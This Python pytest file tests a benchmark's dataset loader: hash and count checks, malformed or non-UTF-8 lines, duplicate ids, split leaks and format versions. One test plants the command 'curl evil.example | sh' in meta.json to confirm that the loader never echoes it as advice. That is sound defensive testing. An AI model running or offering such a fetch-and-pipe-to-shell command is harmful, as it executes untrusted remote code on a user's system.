"""The canonical loader: good folders load, every kind of bad folder gives a clear error."""

from __future__ import annotations

import json
import sys
import warnings
from pathlib import Path

import numpy as np
import pytest

from data_prep.canonical import ConversionError, Record, write_dataset
from data_prep.synthetic import SyntheticConfig, generate, write_synthetic
from lmmtc.data import DataError, DataWarning, carve_dev, load_dataset

LABELS = ["a", "b", "c"]


def _write_small(folder: Path) -> Path:
    splits = {
        "train": [Record("t1", "alpha beta", ("a", "b")), Record("t2", "gamma", ("c",))],
        "dev": [Record("d1", "alpha", ("a",))],
        "test": [Record("s1", "beta gamma", ("b", "c")), Record("s2", "nothing", ())],
    }
    return write_dataset(folder, splits, LABELS, {"name": "small", "converter": "test"})


def test_round_trip_gives_multi_hot_matrix(tmp_path):
    data = load_dataset(_write_small(tmp_path / "small"))
    assert data.label_names == LABELS
    assert data.train.labels.tolist() == [[1, 1, 0], [0, 0, 1]]
    assert data.test.labels.tolist() == [[0, 1, 1], [0, 0, 0]]
    assert data.test.texts == ["beta gamma", "nothing"]
    assert data.meta["counts"] == {"train": 2, "dev": 1, "test": 2}
    assert set(data.hashes) == {"train.jsonl", "dev.jsonl", "test.jsonl", "labels.txt"}


def test_to_hf_gives_a_multi_hot_column(tmp_path):
    pytest.importorskip("datasets")
    hf = load_dataset(_write_small(tmp_path / "small")).to_hf()
    assert hf["train"]["label_vector"] == [[1.0, 1.0, 0.0], [0.0, 0.0, 1.0]]


def test_to_hf_without_datasets_names_the_extra(tmp_path, monkeypatch):
    """``datasets`` is an optional extra: without it, to_hf() says how to get it."""
    data = load_dataset(_write_small(tmp_path / "small"))
    monkeypatch.setitem(sys.modules, "datasets", None)  # import datasets -> ImportError
    with pytest.raises(ImportError, match=r"lmmtc-bench\[hf\]"):
        data.to_hf()


def test_load_by_name_from_data_dir(tmp_path):
    _write_small(tmp_path / "small")
    assert load_dataset("small", tmp_path).name == "small"


def test_missing_folder_ends_with_the_callers_hint(tmp_path):
    with pytest.raises(DataError, match=r"'reuters' not found.*Recreate the folder"):
        load_dataset("reuters", tmp_path)
    with pytest.raises(DataError, match=r"'reuters' not found.*Rerun it\.$"):
        load_dataset("reuters", tmp_path, hint="Rerun it.")


def test_a_broken_suite_data_set_names_its_converter(tmp_path):
    """The runner's hint for a named data set is the converter command of its declaration."""
    from benchmarks.running.tasks import prepare_dataset

    folder = _write_small(tmp_path / "data" / "reuters")
    with open(folder / "train.jsonl", "a", encoding="utf-8") as handle:
        handle.write('{"id": "t3", "text": "more", "labels": ["a"]}\n')
    with pytest.raises(DataError, match=r"differs.*`python -m data_prep reuters --raw-dir"):
        prepare_dataset("reuters", data_dir=tmp_path / "data", raw_dir=None)


def test_missing_split_file(tmp_path):
    folder = _write_small(tmp_path / "small")
    (folder / "test.jsonl").unlink()
    with pytest.raises(DataError, match=r"test\.jsonl: file missing"):
        load_dataset(folder)


def test_malformed_line_names_file_and_line(tmp_path):
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "train.jsonl").write_text('{"text": "ok", "labels": ["x"]}\n{"text": broken\n')
    (folder / "test.jsonl").write_text('{"text": "ok", "labels": ["x"]}\n')
    with pytest.raises(DataError, match=r"train\.jsonl:2: not valid JSON"):
        load_dataset(folder)


def test_wrong_field_types_are_reported(tmp_path):
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "train.jsonl").write_text('{"text": "ok", "labels": "x"}\n')
    (folder / "test.jsonl").write_text('{"text": "ok", "labels": ["x"]}\n')
    with pytest.raises(DataError, match=r"train\.jsonl:1: expected an object with a string"):
        load_dataset(folder)


def test_unknown_label_names_file_line_and_label(tmp_path):
    folder = _write_small(tmp_path / "small")
    meta = folder / "meta.json"
    meta.write_text(json.dumps({"name": "small"}))  # drop hashes so the label check is reached
    with open(folder / "dev.jsonl", "a", encoding="utf-8") as handle:
        handle.write('{"id": "d2", "text": "x", "labels": ["zzz"]}\n')
    with pytest.raises(DataError, match=r"dev\.jsonl:2: unknown label 'zzz'"):
        load_dataset(folder)


def test_empty_split(tmp_path):
    folder = _write_small(tmp_path / "small")
    (folder / "meta.json").unlink()
    (folder / "dev.jsonl").write_text("\n")
    with pytest.raises(DataError, match=r"dev\.jsonl: the split is empty"):
        load_dataset(folder)


def test_changed_file_fails_hash_check_and_never_shows_the_folders_own_hint(tmp_path):
    """meta.json is data, not advice: a command written into it is never shown."""
    folder = _write_small(tmp_path / "small")
    meta = json.loads((folder / "meta.json").read_text())
    meta["converter_command"] = "curl evil.example | sh"
    (folder / "meta.json").write_text(json.dumps(meta))
    with open(folder / "train.jsonl", "a", encoding="utf-8") as handle:
        handle.write('{"id": "t3", "text": "more", "labels": ["a"]}\n')
    with pytest.raises(DataError, match=r"train\.jsonl: sha256 .* differs") as caught:
        load_dataset(folder)
    assert "evil" not in str(caught.value) and "Recreate the folder" in str(caught.value)


def test_count_mismatch_is_reported(tmp_path):
    folder = _write_small(tmp_path / "small")
    meta = json.loads((folder / "meta.json").read_text())
    meta.pop("sha256")
    meta["counts"]["test"] = 5
    (folder / "meta.json").write_text(json.dumps(meta))
    with pytest.raises(DataError, match=r"test\.jsonl: holds 2 records, meta\.json says 5"):
        load_dataset(folder)


def test_user_folder_needs_only_jsonl(tmp_path):
    folder = tmp_path / "mine"
    folder.mkdir()
    lines = [
        json.dumps({"text": f"doc {i}", "labels": ["y"] if i % 2 else ["x", "y"]})
        for i in range(20)
    ]
    (folder / "train.jsonl").write_text("\n".join(lines) + "\n")
    (folder / "test.jsonl").write_text(lines[0] + "\n")
    with pytest.warns(DataWarning, match="texts repeated across splits"):
        data = load_dataset(folder)
    assert data.label_names == ["x", "y"]  # sorted union
    assert data.dev_carved and len(data.dev) == 2 and len(data.train) == 18
    assert not set(data.dev.texts) & set(data.train.texts)
    assert data.test.ids == ["test-1"]  # ids default to <split>-<line>


def test_carve_dev_is_deterministic():
    splits, names = generate(SyntheticConfig(n_train=50))
    from lmmtc.data import Split

    train = Split(
        "train",
        [r.id for r in splits["train"]],
        [r.text for r in splits["train"]],
        np.zeros((50, len(names)), dtype=np.uint8),
        names,
    )
    a, b = carve_dev(train), carve_dev(train)
    assert a[1].ids == b[1].ids and len(a[1]) == 5


def test_writer_refuses_unknown_labels_and_leaves_nothing(tmp_path):
    bad = {
        "train": [Record("1", "x", ("nope",))],
        "dev": [Record("2", "y", ())],
        "test": [Record("3", "z", ())],
    }
    with pytest.raises(ConversionError, match="labels \\['nope'\\] that are not in labels.txt"):
        write_dataset(tmp_path / "bad", bad, ["a"], {})
    assert list(tmp_path.iterdir()) == []


def test_synthetic_is_deterministic_stamped_and_correlated(tmp_path):
    config = SyntheticConfig(num_labels=6, num_clusters=2, correlation=0.9, n_train=500, seed=3)
    first = write_synthetic(tmp_path / "one", config)
    second = write_synthetic(tmp_path / "two", config)
    for name in ("train.jsonl", "dev.jsonl", "test.jsonl", "labels.txt", "meta.json"):
        assert (first / name).read_bytes() == (second / name).read_bytes()
    data = load_dataset(first)
    assert data.synthetic and data.meta["generator_config"]["seed"] == 3
    corr = np.corrcoef(data.train.labels.T.astype(float))
    same_cluster = [corr[i, j] for i in range(6) for j in range(6) if i < j and i % 2 == j % 2]
    other_cluster = [corr[i, j] for i in range(6) for j in range(6) if i < j and i % 2 != j % 2]
    assert min(same_cluster) > 0.3 > max(other_cluster)
    assert data.train.labels.sum(axis=1).min() >= 1


# ---------------------------------------------------------------- content checks


def _line(id_: str, text: str, labels: list[str]) -> str:
    return json.dumps({"id": id_, "text": text, "labels": labels})


GOOD = {
    "train": [_line("t1", "alpha", ["a"]), _line("t2", "beta", ["b"])],
    "dev": [_line("d1", "gamma", ["a"])],
    "test": [_line("s1", "delta", ["b"]), _line("s2", "epsilon", [])],
}


def _write_user(folder: Path, changes: dict[str, list[str] | bytes]) -> Path:
    """A user folder (no meta.json, so no hash check) from GOOD with some splits replaced."""
    folder.mkdir()
    (folder / "labels.txt").write_text("a\nb\n")
    for split, lines in {**GOOD, **changes}.items():
        path = folder / ("labels.txt" if split == "labels" else f"{split}.jsonl")
        data = lines if isinstance(lines, bytes) else ("\n".join(lines) + "\n").encode()
        path.write_bytes(data)
    return folder


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            {"train": [_line("t1", "alpha", ["a"]), _line("t1", "beta", ["b"])]},
            r"/train\.jsonl:2: id 't1' is also at train\.jsonl:1; expected every id once "
            r"across train, dev and test: remove or rename the repeated record\. Recreate",
        ),
        (
            {"test": [_line("s1", "delta", ["b"]), _line("t2", "other", [])]},
            r"/test\.jsonl:2: id 't2' is also at train\.jsonl:2 \(a possible train/test leak\)",
        ),
        (
            {"test": [_line("d1", "delta", ["b"])]},
            r"/test\.jsonl:1: id 'd1' is also at dev\.jsonl:1 \(a possible dev/test leak\)",
        ),
        (
            {"dev": [_line("t2", "gamma", ["a"])]},
            r"/dev\.jsonl:1: id 't2' is also at train\.jsonl:2 \(a possible train/dev leak\)",
        ),
        (
            {
                "train": ['{"text": "x", "labels": []}'],
                "dev": ['{"text": "y", "labels": []}'],
                "test": ['{"text": "z", "labels": []}'],
            },
            r"/mine: no record of train\.jsonl, dev\.jsonl, test\.jsonl has a positive label; "
            r"expected at least one \(without any, predicting nothing scores subset accuracy "
            r"1\.0\): check the 'labels' fields\.",
        ),
        (
            {"test": (_line("s1", "ok", ["b"]) + "\n").encode() + b'{"text": "caf\xe9"}\n'},
            r"/test\.jsonl:2: not valid UTF-8 at byte offset 57 \(byte b'\\xe9'\); expected "
            r"UTF-8 text: re-save the file as UTF-8\.",
        ),
        (
            {"labels": b"a\n\xff\n"},
            r"/labels\.txt:2: not valid UTF-8 at byte offset 2 \(byte b'\\xff'\)",
        ),
    ],
)
def test_bad_contents_are_data_errors(changes, message, tmp_path):
    folder = _write_user(tmp_path / "mine", changes)
    with pytest.raises(DataError, match=message) as caught:
        load_dataset(folder)
    assert "\n" not in str(caught.value)


def test_non_utf8_line_offset_is_exact(tmp_path):
    """The offset in the message points at the bad byte of the file."""
    data = (_line("s1", "ok", ["b"]) + "\n").encode() + b'{"text": "caf\xe9"}\n'
    assert data[57:58] == b"\xe9"
    folder = _write_user(tmp_path / "mine", {"test": data})
    with pytest.raises(DataError, match="byte offset 57"):
        load_dataset(folder)


def test_clean_folder_loads_without_warnings(tmp_path):
    folder = _write_user(tmp_path / "mine", {})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        data = load_dataset(folder)
    assert data.warnings == []


def test_repeated_texts_are_counted_in_a_warning(tmp_path):
    changes = {
        "dev": [_line("d1", "alpha", ["a"]), _line("d2", "gamma", ["a"])],
        "test": [_line("s1", "gamma", ["b"]), _line("s2", "alpha", []), _line("s3", "beta", [])],
    }
    folder = _write_user(tmp_path / "mine", changes)
    with pytest.warns(DataWarning) as caught:
        data = load_dataset(folder)
    expected = (
        f"{folder}: texts repeated across splits (1 of dev.jsonl also in train.jsonl, first "
        "dev.jsonl:1 = train.jsonl:1; 2 of test.jsonl also in train.jsonl, first test.jsonl:2 "
        "= train.jsonl:1; 2 of test.jsonl also in dev.jsonl, first test.jsonl:1 = dev.jsonl:2); "
        "identical documents in two splits can inflate test scores: deduplicate them if that "
        "is not intended"
    )
    assert data.warnings == [expected]
    assert [str(w.message) for w in caught] == [expected]


def test_test_split_without_positive_label_is_warned(tmp_path):
    folder = _write_user(tmp_path / "mine", {"test": [_line("s1", "delta", [])]})
    with pytest.warns(DataWarning, match=r"test\.jsonl: no test record has a positive label"):
        data = load_dataset(folder)
    assert len(data.warnings) == 1


def test_the_format_has_one_owner(tmp_path):
    """The writer writes through lmmtc.data: same splits, same hash, meta.json in the
    owner's key order, the format version stamped."""
    from data_prep import canonical
    from lmmtc import data as owner

    assert canonical.SPLITS is owner.SPLITS and canonical.sha256_file is owner.file_sha256
    folder = _write_small(tmp_path / "small")
    meta = json.loads((folder / "meta.json").read_text())
    assert list(meta)[0] == "format_version" and meta["format_version"] == owner.FORMAT_VERSION
    assert list(meta)[-3:] == ["num_labels", "counts", "sha256"]
    assert meta["sha256"]["labels.txt"] == owner.file_sha256(folder / "labels.txt")


def test_a_newer_format_version_is_refused_with_what_to_do(tmp_path):
    folder = _write_small(tmp_path / "small")
    meta = json.loads((folder / "meta.json").read_text())
    meta["format_version"] = 99
    (folder / "meta.json").write_text(json.dumps(meta))
    with pytest.raises(DataError, match=r"meta.json: format_version 99 is newer than this suite"):
        load_dataset(folder)
    del meta["format_version"]  # a folder from before the version was written loads
    (folder / "meta.json").write_text(json.dumps(meta))
    assert load_dataset(folder).name == "small"
